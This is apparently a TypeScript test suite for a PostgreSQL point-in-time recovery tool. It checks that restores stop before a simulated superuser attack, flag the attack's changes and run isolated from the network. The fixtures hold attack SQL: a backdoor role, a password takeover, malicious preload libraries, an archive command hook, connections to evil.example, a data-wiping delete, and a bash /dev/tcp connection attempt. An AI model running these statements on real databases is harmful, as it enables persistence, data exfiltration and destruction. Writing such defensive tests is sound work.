import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync, readFileSync, readlinkSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import { after, before, test } from 'node:test'

import { startCleanServer } from '../../packages/platform/src/adapters/postgres-source/clean-server.ts'
import { readRecoveredCluster } from '../../packages/platform/src/adapters/postgres-source/index.ts'
import { runSql } from '../../packages/platform/src/adapters/postgres-source/session.ts'
import type { RecoveryReport } from '../../packages/platform/src/doors/cli/recover/postgres/recovery-report.ts'
import { noPostgres, type Source, startSource } from './source-server.ts'

/** One night: a base backup, a last good order, then somebody with the rights of a superuser. */
const attack = `
create role ghost superuser login password 'back door';
alter role clerk password 'taken over';
alter role postgres set session_preload_libraries = 'evil';
alter system set shared_preload_libraries = 'evil';
alter system set archive_cleanup_command = 'touch OWNED';
alter system set primary_conninfo = 'host=evil.example';`
const attackInShop = `
create function leak() returns trigger language plpgsql security definer as 'begin return new; end';
create trigger leak before insert on orders for each row execute function leak();
create function on_change() returns event_trigger language plpgsql as 'begin perform 1; end';
create event trigger watcher on ddl_command_end execute function on_change();
create extension postgres_fdw; create server elsewhere foreign data wrapper postgres_fdw options (host 'evil.example');
grant all on orders to public;
delete from orders;`

let source: Source
let lastGood = ''
let position = ''

before(async () => {
  if (noPostgres !== false) return
  source = await startSource({
    archive: true,
    settings: { max_connections: '150', max_prepared_transactions: '5' },
  })
  source.sql(`create role clerk login password 'x'; create database shop`)
  source.sql(
    `create table orders (id int primary key); insert into orders select generate_series(1, 1000)`,
    'shop',
  )
  // As when the attacker came earlier: what was set aside must be seen and must do nothing.
  source.sql(`alter system set archive_cleanup_command = 'touch ${join(source.folder, 'OWNED')}'`)
  const base = source.cli('protect', 'postgres', 'base', '--cluster', 'main')
  assert.equal(base.code, 0, base.stderr)
  source.sql('insert into orders values (1001)', 'shop')
  lastGood = source.sql(
    `select to_char(clock_timestamp() at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')`,
  )
  position = source.sql('select pg_current_wal_lsn()')
  source.sql(attack)
  source.sql(attackInShop, 'shop')
  await source.switchLog()
})
after(async () => {
  if (noPostgres === false) await source[Symbol.asyncDispose]()
})

async function recover(name: string, ...target: string[]): Promise<{ into: string; report: RecoveryReport }> {
  const into = join(source.folder, name)
  const ran = await source.operator(
    'recover',
    'postgres',
    'run',
    '--cluster',
    'main',
    '--into',
    into,
    '--json',
    ...target,
  )
  assert.equal(ran.code, 0, ran.stdout + ran.stderr)
  return { into, report: JSON.parse(ran.stdout) as RecoveryReport }
}

/** Starts the recovered server as the slicer does, asks, stops it. */
async function ask(into: string, sql: string, database: string): Promise<string> {
  const { cluster } = await readRecoveredCluster(into)
  await using server = await startCleanServer(cluster)
  return (await runSql(server.session, sql, { database })).trim()
}

test(
  'the last good row is there, nothing of the attack is, and no setting of the cluster was used',
  { skip: noPostgres },
  async () => {
    const { into, report } = await recover('clean', '--until', lastGood)
    assert.match(report.stopped ?? '', /recovery stopping before commit/)
    assert.equal(report.badPages, 0)
    assert.deepEqual(report.changes, [])
    assert.deepEqual(
      report.databases.map(({ database }) => database),
      ['postgres', 'shop', 'template1'],
    )
    assert.equal(await ask(into, 'select count(*), max(id) from public.orders', 'shop'), '1001|1001')
    const risky = report.settings.filter((setting) => setting.risky).map(({ name }) => name)
    assert.ok(risky.includes('archive_cleanup_command') && risky.includes('archive_command'), risky.join())
    assert.equal(existsSync(join(source.folder, 'OWNED')), false, 'a command of the restored cluster ran')
    assert.equal(readFileSync(join(into, 'data', 'postgresql.auto.conf'), 'utf8'), '')
    assert.match(readFileSync(join(into, 'aside', 'postgresql.auto.conf'), 'utf8'), /OWNED/)
  },
)

test(
  'the same by position; a folder keeps its state, and another target needs another folder',
  { skip: noPostgres },
  async () => {
    const { into, report } = await recover('by-position', '--lsn', position)
    assert.match(report.stopped ?? '', /recovery stopping before WAL location/)
    assert.equal(await ask(into, `select count(*) from pg_roles where rolname = 'ghost'`, 'postgres'), '0')
    const other = await source.operator(
      'recover',
      'postgres',
      'run',
      '--cluster',
      'main',
      '--into',
      into,
      '--latest',
    )
    assert.equal(other.code, 1)
    assert.match(other.stderr, /Code: unsafe-target/)
  },
)

test(
  'after the attack: every role, function, trigger, extension and right it brought is named',
  { skip: noPostgres },
  async () => {
    const { into, report } = await recover('attacked', '--latest')
    const found = (report.changes ?? []).map(({ change, kind, name }) => `${change} ${kind} ${name}`)
    for (const expected of [
      'added role ghost',
      'added password ghost',
      'changed password clerk',
      'added setting postgres in session_preload_libraries',
      'added function public.leak()',
      'added trigger public.orders.leak',
      'added event trigger watcher',
      'added extension postgres_fdw',
      'added foreign server elsewhere',
      'added privileges public.orders',
    ]) {
      assert.ok(found.includes(expected), `${expected} is not in ${found.join('\n')}`)
    }
    assert.ok(!JSON.stringify(report).includes('SCRAM-SHA'), 'no password, not even its hash, is shown')
    const asked = await source.operator(
      'recover',
      'postgres',
      'changes',
      '--in',
      into,
      '--clean',
      join(source.folder, 'clean'),
    )
    assert.equal(asked.code, 0, asked.stderr)
    assert.match(asked.stdout, /added event trigger watcher in shop \(runs at every change of the schema\)/)
  },
)

test(
  'the commit that emptied the table is found in the log, and its position restores to just before it',
  { skip: noPostgres },
  async () => {
    const into = join(source.folder, 'attacked')
    const ran = await source.operator(
      'recover',
      'postgres',
      'moments',
      '--in',
      into,
      '--rows',
      '1000',
      '--json',
    )
    assert.equal(ran.code, 0, ran.stdout + ran.stderr)
    const moments = JSON.parse(ran.stdout) as { lsn: string; deleted: number; relations: string[] }[]
    const emptied = moments.find(({ deleted }) => deleted === 1001)
    assert.deepEqual(emptied?.relations, ['public.orders in shop'])
    const again = await recover('before-delete', '--lsn', emptied.lsn)
    assert.equal(await ask(again.into, 'select count(*) from public.orders', 'shop'), '1001')
    assert.equal(
      await ask(again.into, `select count(*) from pg_roles where rolname = 'ghost'`, 'postgres'),
      '1',
    )
  },
)

test(
  'the server of the clean room has no network, not even for code that runs in it',
  { skip: noPostgres },
  async () => {
    const { cluster } = await readRecoveredCluster(join(source.folder, 'attacked'))
    await using server = await startCleanServer(cluster)
    if (!server.ownNetwork) return
    assert.notEqual(readlinkSync(`/proc/${server.pid}/ns/net`), readlinkSync('/proc/self/ns/net'))
    const interfaces = await runSql(
      server.session,
      `create temp table seen (line text); copy seen from program 'cat /proc/net/dev'; select line from seen where line like '%:%'`,
    )
    assert.match(interfaces.trim(), /^lo:[ 0]+$/m)
    assert.equal(interfaces.trim().split('\n').length, 1)
    // A listener of ours, as real as any other machine: nobody comes.
    let came = 0
    const listener = createServer(() => (came += 1)).listen(0, '127.0.0.1')
    await once(listener, 'listening')
    const { port } = listener.address() as AddressInfo
    await assert.rejects(
      runSql(
        server.session,
        `create temp table out (line text); copy out from program 'bash -c "exec 3<>/dev/tcp/127.0.0.1/${port}"'`,
      ),
      /program "bash/,
    )
    listener.close()
    assert.equal(came, 0)
  },
)
